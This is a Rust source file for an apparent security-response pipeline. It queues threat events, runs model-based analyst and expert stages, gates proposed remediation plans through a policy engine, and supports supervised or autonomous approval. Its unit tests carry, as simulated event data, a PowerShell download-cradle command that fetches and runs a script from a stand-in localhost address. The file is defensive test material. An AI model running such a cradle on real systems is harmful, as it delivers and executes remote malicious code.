//! The analysis consume loop.
//!
//! Pops threat events off the queue at its own cadence, opens one case
//! per event, runs the Analyst and Expert waterfall stages, gates the
//! resulting plan, and leaves the case either awaiting approval or
//! failed. Per-event errors are caught at the loop boundary; nothing a
//! single event does can stop the loop.

use crate::parse::{parse_analyst_report, parse_candidate_plan, PlanFallbackContext};
use crate::prompt::{analyst_prompt, expert_prompt};
use crate::waterfall::Stage;
use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use sx_core::{AlertRecord, Case, CaseStatus, CaseStore, CaseStoreError, ThreatEvent, ThreatQueue};
use sx_policy::Gate;
use thiserror::Error;
use tokio::sync::watch;
use tokio::task::JoinHandle;
use tracing::{error, info, instrument, warn};
use uuid::Uuid;

/// How the pipeline treats a gate-passing case.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OperationMode {
    /// Gate-passing cases wait for an explicit human decision.
    #[default]
    Supervised,
    /// Gate-passing cases are approved and executed immediately.
    Autonomous,
}

/// Invoked when the pipeline itself approves a case (autonomous mode).
/// The production implementation signs and executes the plan.
#[async_trait]
pub trait ApprovedPlanHandler: Send + Sync {
    /// Executes the approved case's plan.
    async fn execute_approved(&self, case_id: Uuid);
}

/// Pipeline tuning.
#[derive(Debug, Clone)]
pub struct PipelineConfig {
    /// How often the consumer polls the queue when it is empty.
    pub consume_interval: Duration,
    /// Hostname stamped onto alert records.
    pub hostname: String,
    /// Supervised or autonomous operation.
    pub mode: OperationMode,
}

impl Default for PipelineConfig {
    fn default() -> Self {
        Self {
            consume_interval: Duration::from_millis(200),
            hostname: "localhost".to_string(),
            mode: OperationMode::Supervised,
        }
    }
}

/// Errors surfaced by one event's trip through the pipeline.
#[derive(Debug, Error)]
pub enum PipelineError {
    #[error(transparent)]
    Store(#[from] CaseStoreError),

    #[error(transparent)]
    Transition(#[from] sx_core::TransitionError),

    #[error("case {0} is already being analyzed")]
    AlreadyInFlight(Uuid),
}

/// The analysis pipeline. Construct, then [`AnalysisPipeline::spawn`].
pub struct AnalysisPipeline {
    queue: Arc<ThreatQueue>,
    store: Arc<CaseStore>,
    analyst: Stage,
    expert: Stage,
    gate: Gate,
    config: PipelineConfig,
    /// Case ids with an analysis in flight; enforces at-most-one
    /// concurrent analysis per case.
    in_flight: Mutex<HashSet<Uuid>>,
    approved_handler: Option<Arc<dyn ApprovedPlanHandler>>,
}

/// Handle to a running pipeline task.
pub struct PipelineHandle {
    shutdown_tx: watch::Sender<bool>,
    task: JoinHandle<()>,
}

impl PipelineHandle {
    /// Signals the loop to stop and waits for it. Observed within one
    /// consume interval; an in-flight case finishes its current step and
    /// lands in a well-defined state.
    pub async fn stop(self) {
        let _ = self.shutdown_tx.send(true);
        let _ = self.task.await;
    }
}

impl AnalysisPipeline {
    /// Creates a pipeline over the shared queue and case store.
    pub fn new(
        queue: Arc<ThreatQueue>,
        store: Arc<CaseStore>,
        analyst: Stage,
        expert: Stage,
        gate: Gate,
        config: PipelineConfig,
    ) -> Self {
        Self {
            queue,
            store,
            analyst,
            expert,
            gate,
            config,
            in_flight: Mutex::new(HashSet::new()),
            approved_handler: None,
        }
    }

    /// Installs the handler invoked on autonomous approval.
    pub fn with_approved_handler(mut self, handler: Arc<dyn ApprovedPlanHandler>) -> Self {
        self.approved_handler = Some(handler);
        self
    }

    /// Starts the consume loop on the tokio runtime.
    pub fn spawn(self: Arc<Self>) -> PipelineHandle {
        let (shutdown_tx, shutdown_rx) = watch::channel(false);
        let task = tokio::spawn(self.run(shutdown_rx));
        PipelineHandle { shutdown_tx, task }
    }

    async fn run(self: Arc<Self>, mut shutdown_rx: watch::Receiver<bool>) {
        info!(
            analyst_backends = self.analyst.backend_count(),
            expert_backends = self.expert.backend_count(),
            mode = ?self.config.mode,
            "Analysis pipeline started"
        );

        let mut interval = tokio::time::interval(self.config.consume_interval);
        interval.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);

        loop {
            tokio::select! {
                _ = interval.tick() => {
                    // Drain everything currently queued before sleeping again.
                    while let Some(event) = self.queue.pop() {
                        if let Err(err) = self.process_event(event).await {
                            error!(error = %err, "Event processing failed, continuing");
                        }
                        if *shutdown_rx.borrow() {
                            break;
                        }
                    }
                }
                _ = shutdown_rx.changed() => {
                    if *shutdown_rx.borrow() {
                        break;
                    }
                }
            }
            if *shutdown_rx.borrow() {
                break;
            }
        }

        info!("Analysis pipeline stopped");
    }

    /// Runs one event through case creation, both stages, and the gate.
    ///
    /// Returns the case id; the case ends in `awaiting_approval`,
    /// `failed`, or (autonomous mode) whatever execution produced.
    #[instrument(skip(self, event), fields(pid = event.process_id, signature = %event.signature_id))]
    pub async fn process_event(&self, event: ThreatEvent) -> Result<Uuid, PipelineError> {
        let alert = AlertRecord::new(self.config.hostname.clone(), event);
        let case = Case::open(alert.clone());
        let case_id = self.store.insert(case).await;

        {
            let mut in_flight = self.in_flight.lock().expect("in-flight lock poisoned");
            if !in_flight.insert(case_id) {
                return Err(PipelineError::AlreadyInFlight(case_id));
            }
        }
        let result = self.analyze_case(case_id, &alert).await;
        self.in_flight
            .lock()
            .expect("in-flight lock poisoned")
            .remove(&case_id);

        result.map(|_| case_id)
    }

    async fn analyze_case(&self, case_id: Uuid, alert: &AlertRecord) -> Result<(), PipelineError> {
        self.store
            .transition(case_id, CaseStatus::Analyzing, Some("pipeline".to_string()))
            .await?;

        // Analyst stage.
        let report = match self.analyst.waterfall(&analyst_prompt(alert)).await {
            Ok(success) => parse_analyst_report(&success.text, &success.backend),
            Err(exhausted) => {
                warn!(case = %case_id, error = %exhausted, "Analyst stage exhausted");
                self.store
                    .update(case_id, |case| case.fail(exhausted.to_string()))
                    .await??;
                return Ok(());
            }
        };
        self.store
            .update(case_id, |case| case.report = Some(report.clone()))
            .await?;

        // Expert stage.
        let expert_text = match self
            .expert
            .waterfall(&expert_prompt(case_id, alert, &report))
            .await
        {
            Ok(success) => success,
            Err(exhausted) => {
                warn!(case = %case_id, error = %exhausted, "Expert stage exhausted");
                self.store
                    .update(case_id, |case| case.fail(exhausted.to_string()))
                    .await??;
                return Ok(());
            }
        };

        let fallback = PlanFallbackContext {
            case_id,
            process_id: alert.event.process_id,
            kind: alert.event.kind,
        };
        let plan = parse_candidate_plan(&expert_text.text, &expert_text.backend, &fallback);
        self.store
            .update(case_id, |case| case.plan = Some(plan.clone()))
            .await?;

        // Gate.
        let verdict = self.gate.evaluate(&plan, case_id, &alert.hostname).await;
        let executable = verdict.executable();
        let policy_message = verdict.policy_message.clone();
        self.store
            .update(case_id, |case| case.verdict = Some(verdict))
            .await?;

        if executable {
            self.store
                .transition(
                    case_id,
                    CaseStatus::AwaitingApproval,
                    Some("gate passed".to_string()),
                )
                .await?;

            if self.config.mode == OperationMode::Autonomous {
                self.store
                    .decide(case_id, true, "autonomous-mode")
                    .await?;
                if let Some(handler) = &self.approved_handler {
                    handler.execute_approved(case_id).await;
                }
            }
        } else {
            self.store
                .update(case_id, |case| {
                    case.fail(format!("gate rejected plan: {}", policy_message))
                })
                .await??;
        }

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::providers::MockBackend;
    use std::time::Duration;
    use sx_core::{ActionCommand, ThreatKind};
    use sx_policy::{PolicyDocument, PolicyEngine};

    fn cradle_event(pid: u32) -> ThreatEvent {
        ThreatEvent::new(
            pid,
            "powershell.exe",
            "powershell.exe -NoP IEX DownloadString('http://127.0.0.1/nonexistent-malware.ps1')",
            "ps-download-cradle",
            ThreatKind::FilelessAttack,
        )
    }

    fn timeout() -> Duration {
        Duration::from_millis(200)
    }

    fn default_gate() -> Gate {
        Gate::new(Arc::new(PolicyEngine::new(
            PolicyDocument::default_document(),
        )))
    }

    fn analyst_stage() -> Stage {
        // Non-JSON response: the canonical fallback report is used, which
        // still counts as stage success.
        Stage::new("analyst").push_backend(
            Arc::new(MockBackend::succeeding("analyst-mock", "prose response")),
            timeout(),
        )
    }

    fn expert_stage() -> Stage {
        Stage::new("expert").push_backend(
            Arc::new(MockBackend::succeeding("expert-mock", "also prose")),
            timeout(),
        )
    }

    fn pipeline_with(
        analyst: Stage,
        expert: Stage,
        mode: OperationMode,
    ) -> (AnalysisPipeline, Arc<CaseStore>) {
        let store = Arc::new(CaseStore::new());
        let pipeline = AnalysisPipeline::new(
            Arc::new(ThreatQueue::default()),
            Arc::clone(&store),
            analyst,
            expert,
            default_gate(),
            PipelineConfig {
                consume_interval: Duration::from_millis(10),
                hostname: "ws-01".to_string(),
                mode,
            },
        );
        (pipeline, store)
    }

    #[tokio::test]
    async fn test_event_reaches_awaiting_approval_via_fallbacks() {
        let (pipeline, store) =
            pipeline_with(analyst_stage(), expert_stage(), OperationMode::Supervised);

        let case_id = pipeline.process_event(cradle_event(4321)).await.unwrap();
        let case = store.get(case_id).await.unwrap();

        assert_eq!(case.status, CaseStatus::AwaitingApproval);
        let plan = case.plan.unwrap();
        assert_eq!(plan.actions[0].command, ActionCommand::KillProcess);
        assert_eq!(plan.actions[0].param_u64("pid"), Some(4321));
        assert!(case.verdict.unwrap().executable());
        // The fallback analyst report was stored.
        assert!(case.report.unwrap().summary.contains("fallback"));
    }

    #[tokio::test]
    async fn test_analyst_exhaustion_fails_case() {
        let analyst = Stage::new("analyst")
            .push_backend(Arc::new(MockBackend::failing("one")), timeout())
            .push_backend(Arc::new(MockBackend::failing("two")), timeout());
        let (pipeline, store) = pipeline_with(analyst, expert_stage(), OperationMode::Supervised);

        let case_id = pipeline.process_event(cradle_event(1)).await.unwrap();
        let case = store.get(case_id).await.unwrap();

        assert_eq!(case.status, CaseStatus::Failed);
        assert!(case.failure_reason.unwrap().contains("exhausted"));
        assert!(case.plan.is_none());
    }

    #[tokio::test]
    async fn test_expert_exhaustion_fails_case_never_awaiting() {
        let expert = Stage::new("expert")
            .push_backend(Arc::new(MockBackend::failing("exp-1")), timeout());
        let (pipeline, store) = pipeline_with(analyst_stage(), expert, OperationMode::Supervised);

        let case_id = pipeline.process_event(cradle_event(2)).await.unwrap();
        let case = store.get(case_id).await.unwrap();

        assert_eq!(case.status, CaseStatus::Failed);
        // Analyst output survived; the expert never produced a plan.
        assert!(case.report.is_some());
        assert!(case.plan.is_none());
    }

    #[tokio::test]
    async fn test_policy_denied_plan_fails_case() {
        // Expert returns a valid plan targeting a protected pid (4).
        let (pipeline, store) = {
            let store = Arc::new(CaseStore::new());
            let queue = Arc::new(ThreatQueue::default());
            let pipeline = AnalysisPipeline::new(
                Arc::clone(&queue),
                Arc::clone(&store),
                analyst_stage(),
                expert_stage(),
                default_gate(),
                PipelineConfig {
                    consume_interval: Duration::from_millis(10),
                    hostname: "ws-01".to_string(),
                    mode: OperationMode::Supervised,
                },
            );
            (pipeline, store)
        };

        let case_id = pipeline.process_event(cradle_event(4)).await.unwrap();
        let case = store.get(case_id).await.unwrap();

        assert_eq!(case.status, CaseStatus::Failed);
        let verdict = case.verdict.unwrap();
        assert!(verdict.schema_valid);
        assert!(!verdict.policy_compliant);
        assert!(verdict.policy_message.contains("protected system process"));
    }

    #[tokio::test]
    async fn test_consume_loop_drains_queue_and_stops_promptly() {
        let store = Arc::new(CaseStore::new());
        let queue = Arc::new(ThreatQueue::default());
        queue.push(cradle_event(100));
        queue.push(cradle_event(101));

        let pipeline = Arc::new(AnalysisPipeline::new(
            Arc::clone(&queue),
            Arc::clone(&store),
            analyst_stage(),
            expert_stage(),
            default_gate(),
            PipelineConfig {
                consume_interval: Duration::from_millis(10),
                hostname: "ws-01".to_string(),
                mode: OperationMode::Supervised,
            },
        ));

        let handle = Arc::clone(&pipeline).spawn();
        tokio::time::sleep(Duration::from_millis(150)).await;

        let started = std::time::Instant::now();
        handle.stop().await;
        assert!(started.elapsed() < Duration::from_millis(200));

        assert!(queue.is_empty());
        assert_eq!(store.len().await, 2);
        for summary in store.list().await {
            assert_eq!(summary.status, CaseStatus::AwaitingApproval);
        }
    }

    #[tokio::test]
    async fn test_autonomous_mode_invokes_handler() {
        struct Recorder(Mutex<Vec<Uuid>>);

        #[async_trait]
        impl ApprovedPlanHandler for Recorder {
            async fn execute_approved(&self, case_id: Uuid) {
                self.0.lock().unwrap().push(case_id);
            }
        }

        let recorder = Arc::new(Recorder(Mutex::new(Vec::new())));
        let (pipeline, store) =
            pipeline_with(analyst_stage(), expert_stage(), OperationMode::Autonomous);
        let pipeline = pipeline.with_approved_handler(Arc::clone(&recorder) as Arc<dyn ApprovedPlanHandler>);

        let case_id = pipeline.process_event(cradle_event(7)).await.unwrap();

        let case = store.get(case_id).await.unwrap();
        assert_eq!(case.status, CaseStatus::Approved);
        assert_eq!(recorder.0.lock().unwrap().as_slice(), &[case_id]);
    }
}
